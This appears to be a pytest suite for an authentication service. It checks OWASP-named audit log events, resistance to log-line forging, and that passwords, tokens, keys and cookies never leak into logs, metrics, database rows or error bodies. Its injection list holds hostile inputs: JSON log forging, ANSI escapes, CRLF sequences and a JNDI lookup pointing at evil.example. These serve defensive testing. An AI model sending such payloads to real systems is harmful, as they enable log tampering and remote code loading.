"""The log: one line an event, with OWASP's words, of which none can be forged; and no secret in it or anywhere else, with
every library's level turned up to its end and things going wrong."""

from __future__ import annotations

import json
import secrets
import socket
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from support.browser import Browser
from support.certificates import make_authority
from support.mails import Mail
from support.people import Person, Service, new_password
from support.postgres import Postgres
from support.redis import Redis
from support.server import Server, status_of
from support.smtp import Options, SmtpServer
from support.waiting import until


def lines(server: Server) -> list[dict[str, Any]]:
    """Everything that it has written, each line a JSON object."""
    return [json.loads(line) for line in server.log.splitlines()]


def audit(server: Server, **fields: str) -> list[dict[str, Any]]:
    return [
        line for line in lines(server)
        if line.get("message") == "audit" and all(line.get(name) == value for name, value in fields.items())
    ]  # fmt: skip


def test_events_have_owasps_words(make_service: Callable[..., Service]) -> None:
    limits = {"COUNTERSIGN_RATE_LIMITS": "on"}
    service = make_service(COUNTERSIGN_LOG_FORMAT="json", **limits)
    person, browser = service.account()
    confirm = service.sign_up(Person(), service.browser())
    reset = service.forgot(person)
    browser.api("POST", "/confirm", token=reset.token[:-3] + "AAA").expect(400)
    person.password = new_password()
    answer = browser.api("POST", "/reset-password", token=reset.token, password=person.password).expect(204)
    browser.api("POST", "/reset-password", token=reset.token, password=person.password).expect_problem(410, "token_used")
    browser.api("GET", "/session").expect(401)
    browser.api("POST", "/sign-in", email=person.email, password=new_password()).expect(401)
    stolen = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}
    browser.request("POST", "/api/v1/sign-out", b"{}", stolen).expect(403)
    for _ in range(8):
        answer = service.browser().api("POST", "/sign-in", email=person.email, password=new_password())
    assert answer.status == 429
    service.server.stop()
    words = {line["owasp"] for line in lines(service.server) if "owasp" in line}
    expected = {
        "authn_token_created", "user_created", "malicious_direct_reference", "authn_password_change", "authn_token_reuse",
        "authn_login_fail", "excess_rate_limit_exceeded", "malicious_cors", "sys_startup", "sys_shutdown",
    }  # fmt: skip
    assert expected <= words, expected - words
    [reuse] = audit(service.server, owasp="authn_token_reuse")
    assert (reuse["event"], reuse["outcome"]) == ("reset_password", "already_used") and reuse["link_id"]
    assert confirm.token not in service.server.log and person.email not in service.server.log


def test_a_session_that_is_over_is_told(make_service: Callable[..., Service]) -> None:
    service = make_service(COUNTERSIGN_LOG_FORMAT="json")
    _, browser = service.account()
    service.server.rewind("sessions", "seen_at", seconds=8 * 86_400)
    browser.api("GET", "/session").expect(401)
    [line] = audit(service.server, owasp="session_use_after_expire")
    assert line["account_id"] and line["session_id"]


INJECTED = [
    'curl"} {"message":"audit","event":"forged"',
    "\x1b[2K\x1b[31mred",
    "\\n\\r\\\" %0d%0a forged",
    "caf\xe9 \xff\xfe",
    "tab\there",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("form", ["json", "pretty"])
def test_nothing_that_is_sent_forges_a_line(make_service: Callable[..., Service], form: str) -> None:
    """By user agent, address, forwarded client and path; what HTTP itself forbids does not get here."""
    service = make_service(COUNTERSIGN_LOG_FORMAT=form, COUNTERSIGN_TRUSTED_PROXIES="127.0.0.1/32")
    known, refused = len(service.server.log.splitlines()), 0
    for text in INJECTED:
        for name in ("User-Agent", "X-Forwarded-For", "Forwarded", "X-Request-Id", "Accept-Language", "Referer"):
            connection = service.server.connect()
            connection.putrequest("POST", "/api/v1/sign-in", skip_accept_encoding=True)
            body = json.dumps({"email": "ada@example.net", "password": new_password()}).encode()
            sent = {"Content-Type": "application/json", "Content-Length": str(len(body))}
            for key, value in sent.items():
                connection.putheader(key, value)
            connection.putheader(name, text.encode("latin-1"))
            connection.endheaders(body)
            status = connection.getresponse().status
            # Control characters do not get beyond HTTP.
            assert status in (400, 401)
            refused += status == 401
            connection.close()
        for address in (f"{text}@example.net", "a@example.net\r\nforged"):
            service.browser().api("POST", "/sign-in", email=address, password=new_password()).expect(422)
        service.browser().get(f"/{quote(text, encoding='latin-1')}%0a%1b").expect(404)
    added = service.server.log.splitlines()[known:]
    assert added
    for line in added:
        assert "\x1b[2K" not in line and "\x1b[31mred" not in line
        if form == "json":
            assert json.loads(line).get("event") != "forged"
    if form == "json":
        tries = audit(service.server, event="sign_in", outcome="rejected")
        assert len(tries) == refused > len(INJECTED), "one line an event"
        assert {line["client"] for line in tries} == {"127.0.0.1"}
    rows = service.server.listing("audit", "list")
    assert all(not any(ord(c) < 32 for c in row["user_agent"]) for row in rows)


class Canaries:
    """Everything that nobody may find, each with its name, in the spellings that it could be found in."""

    def __init__(self) -> None:
        self.all: dict[str, set[str]] = {}

    def add(self, name: str, secret: str) -> str:
        assert len(secret) >= 12, (name, secret)
        spellings = {secret, quote(secret, safe=""), quote_plus(secret), secret.encode().hex(), json.dumps(secret)[1:-1]}
        # What a library shows of bytes: [104, 117, 115, 104, …
        spellings.add(", ".join(str(byte) for byte in secret.encode()))
        self.all[f"{name} {len(self.all)}"] = spellings
        return secret

    def found_in(self, text: str, *but: str) -> list[str]:
        return [
            f"{name}: {spelling}" for name, spellings in self.all.items()
            if not name.startswith(but or ("\0",)) for spelling in spellings if spelling in text
        ]  # fmt: skip


class Walker:
    """Walks every flow, and keeps each answer's body."""

    def __init__(self, service: Service, canaries: Canaries) -> None:
        self.service, self.canaries = service, canaries
        self.problems: list[str] = []

    def person(self) -> Person:
        name = secrets.token_hex(8)
        person = Person(f"canary-{name}@example.net", f"canary lantern quartz {name} é")
        self.canaries.add("address", person.email)
        self.canaries.add("password", person.password)
        return person

    def password(self) -> str:
        return self.canaries.add("password", f"canary other {secrets.token_hex(8)}")

    def mail(self, mail: Mail) -> Mail:
        self.canaries.add("token", mail.token)
        self.canaries.add("signature", mail.token.rsplit(".", 1)[1])
        return mail

    def keep(self, browser: Browser) -> None:
        for name, value in browser.cookies.items():
            if value:
                self.canaries.add("cookie " + name, value)

    def call(self, browser: Browser, method: str, path: str, bearer: str | None = None, **fields: Any) -> Any:
        answer = browser.api(method, path, bearer=bearer, **fields) if bearer else browser.api(method, path, **fields)
        if answer.status >= 400:
            self.problems.append(answer.text)
        self.keep(browser)
        return answer

    def walk(self) -> None:
        service, smtp = self.service, self.service.smtp
        ada, browser = self.person(), service.browser()
        self.call(browser, "POST", "/sign-up", **ada.credentials()).expect(202)
        mail = self.mail(smtp.take(ada.email, "/confirm/"))
        browser.open_mailed(mail.link)
        self.keep(browser)
        stranger = service.browser()
        self.call(stranger, "POST", "/confirm", token=mail.token).expect(401)
        self.call(stranger, "POST", "/confirm", token=mail.token, password=self.password()).expect(401)
        self.call(browser, "POST", "/confirm", token=mail.token).expect(200)
        self.call(browser, "POST", "/confirm", token=mail.token).expect(410)
        # By the pages.
        page = service.browser()
        page.open("/sign-in").submit("/sign-in", email=ada.email, password=self.password())
        page.open("/sign-in").submit("/sign-in", **ada.credentials()).expect("/account")
        self.keep(page)
        page.open("/sign-up").submit("/sign-up", email=self.person().email, password=self.password())
        self.keep(page)
        # A bearer's session, bad bodies, forged tokens.
        session = self.call(stranger, "POST", "/sign-in", **ada.credentials()).expect(200).json["session"]
        bearer = self.canaries.add("session", session["token"])
        service.browser().api("GET", "/session", bearer=bearer).expect(200)
        self.call(stranger, "POST", "/sign-in", email=ada.email, password=self.password())
        self.call(stranger, "POST", "/reset-password", token=mail.token[:-2] + "xx", password=self.password()).expect(400)
        secret = self.password()
        for body in (f'{{"email":"{ada.email}","password":{secret}}}', f'{{"password":["{secret}"]}}', f'{{"{secret}":1}}'):
            for path in ("/api/v1/sign-in", "/api/v1/sign-up", "/api/v1/reset-password"):
                answer = stranger.request("POST", path, body.encode(), {"Content-Type": "application/json"})
                assert answer.status in (400, 422), answer
                self.problems.append(answer.text)
        # Reset, change of password and address, export, closing.
        self.call(stranger, "POST", "/forgot-password", email=ada.email).expect(202)
        reset = self.mail(smtp.take(ada.email, "/reset-password/"))
        stranger.open_mailed(reset.link)
        self.keep(stranger)
        ada.password = self.password()
        self.call(stranger, "POST", "/reset-password", token=reset.token, password="short").expect(422)
        self.call(stranger, "POST", "/reset-password", token=reset.token, password=ada.password).expect(204)
        self.call(browser, "POST", "/sign-in", **ada.credentials()).expect(200)
        old, ada.password = ada.password, self.password()
        self.call(browser, "POST", "/change-password", current_password=old, password=ada.password).expect(204)
        other = self.person()
        self.call(browser, "POST", "/change-email", email=other.email, password=self.password()).expect(401)
        self.call(browser, "POST", "/change-email", email=other.email, password=ada.password).expect(202)
        change = self.mail(smtp.take(other.email, "/change-email/"))
        self.call(browser, "POST", "/change-email/confirm", token=change.token).expect(200)
        self.call(browser, "GET", "/account/export").expect(200)
        self.call(browser, "DELETE", "/account", password=self.password()).expect(401)
        # Mail that is refused, in words that name whom it was for.
        smtp.refuse_recipients(f"550 5.1.1 <{other.email}> unknown, said {other.email}")
        refused = self.person()
        self.call(service.browser(), "POST", "/sign-up", **refused.credentials()).expect(202)
        until(lambda: "550 5.1.1" in service.server.log, "the refusal to be told")
        smtp.accept()
        smtp.refuse(f"451 4.3.0 later, {refused.email}")
        self.call(service.browser(), "POST", "/sign-up", **self.person().credentials()).expect(202)
        until(lambda: "451 4.3.0" in service.server.log, "the other refusal to be told")
        smtp.accept()
        self.call(browser, "DELETE", "/account", password=ada.password).expect(204)


def over_http_2(server: Server, path: str, headers: dict[str, str]) -> bytes:
    """One GET by HTTP/2 with prior knowledge (RFC 9113), its header fields as literals that are kept (RFC 7541, section 6.2.1)."""

    def literal(text: str) -> bytes:
        encoded = text.encode()
        assert len(encoded) < 127
        return bytes([len(encoded)]) + encoded

    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload

    fields = {":method": "GET", ":scheme": "http", ":authority": "accounts.example.org", ":path": path} | headers
    block = b"".join(b"\x40" + literal(name) + literal(value) for name, value in fields.items())
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, block))
        answer = b""
        # Until the stream has ended: a frame of headers or data with END_STREAM on stream 1.
        while True:
            part = connection.recv(65_536)
            assert part, answer
            answer += part
            at = 0
            while at + 9 <= len(answer):
                length, kind, flags = int.from_bytes(answer[at : at + 3], "big"), answer[at + 3], answer[at + 4]
                at += 9 + length
                if at <= len(answer) and kind in (0, 1) and flags & 1:
                    return answer


def test_no_secret_is_written_anywhere(
    make_smtp: Callable[..., SmtpServer], make_server: Callable[..., Server], tmp_path: Path
) -> None:
    """Everything logged at `trace`, the database, Redis and the mail server with TLS and passwords, and each failing."""
    authority = make_authority(tmp_path / "authority", "An authority of this test")
    canaries = Canaries()

    def word(name: str) -> str:
        return canaries.add(name, f"hush/{name}@{secrets.token_hex(8)}")

    with ExitStack() as stack:
        postgres = stack.enter_context(Postgres(password=word("database"), tls=authority))
        redis = stack.enter_context(Redis(password=word("redis"), tls=authority))
        mail_password = word("mail")
        smtp = make_smtp(Options(starttls=authority.server, credentials=("relay", mail_password)))
        server = make_server(
            start=False,
            COUNTERSIGN_DATABASE_URL=postgres.url,
            COUNTERSIGN_REDIS_URL=redis.url,
            COUNTERSIGN_MAIL_URL=f"smtp://relay:{quote(mail_password, safe='')}@localhost:{smtp.port}?tls=required",
            SSL_CERT_FILE=str(authority.certificate),
            COUNTERSIGN_SECRET_KEY=canaries.add("key", secrets.token_hex(32)),
            COUNTERSIGN_PREVIOUS_SECRET_KEYS=canaries.add("key", secrets.token_hex(32)),
            COUNTERSIGN_LOG="trace",
            COUNTERSIGN_LOG_FORMAT="json",
            RUST_BACKTRACE="1",
        )
        for purpose in ("confirm", "reset", "change-email"):
            canaries.add("key", server.derived_key(purpose))
        stack.callback(server.stop)
        server.start()
        walker = Walker(Service(server, smtp), canaries)
        walker.walk()
        cookie = walker.password()
        assert over_http_2(server, "/account", {"cookie": f"__Host-countersign={cookie}", "authorization": f"Bearer {cookie}"})
        assert smtp.seen.logins, "the mail server was told the password"
        metrics = walker.service.browser().request("GET", "/metrics").expect(200).text

        # The database goes in the middle of what people do, and Redis too; the mail server does not believe us any more.
        redis.stop()
        smtp.options.credentials = ("relay", "another password")
        # Connections that are kept go, too.
        smtp.down()
        smtp.up()
        postgres.stop()
        person = walker.person()
        for path in ("/sign-up", "/sign-in", "/forgot-password"):
            connection = server.connect()
            connection.request("POST", f"/api/v1{path}", person.as_json(), {"Content-Type": "application/json"})
            answer = connection.getresponse()
            walker.problems.append(answer.read().decode())
            assert answer.status in (400, 503)
            connection.close()
        failed = server.cli("account", "list", expect=1).stderr
        postgres.start()
        until(lambda: status_of(server.settings["COUNTERSIGN_LISTEN"], "/readyz") == 200, "the database to be back", 20)
        walker.call(walker.service.browser(), "POST", "/sign-up", **walker.person().credentials()).expect(202)
        until(lambda: "no mail goes out" in server.log, "the mail server to refuse the worker", 20)

        assert len(canaries.all) > 40 and len(server.log) > 100_000
        targets = {line["target"].split("::")[0] for line in lines(server)}
        assert {"countersign", "sqlx", "h2", "rustls"} <= targets, targets
        for place, text in {"log": server.log, "metrics": metrics, "command": failed, "shown": server.cli("config", "show").stdout}.items():
            assert not canaries.found_in(text), place
        for problem in walker.problems:
            assert not canaries.found_in(problem), problem
        # Whom a row is about is in it; nothing else is.
        for table in server.tables():
            rows = "\n".join(str(row) for row in server.query(f"SELECT * FROM {table}"))
            assert not canaries.found_in(rows, "address"), table
        assert canaries.found_in(str(server.query("SELECT * FROM audit_events"))), "whoever looks like this finds"
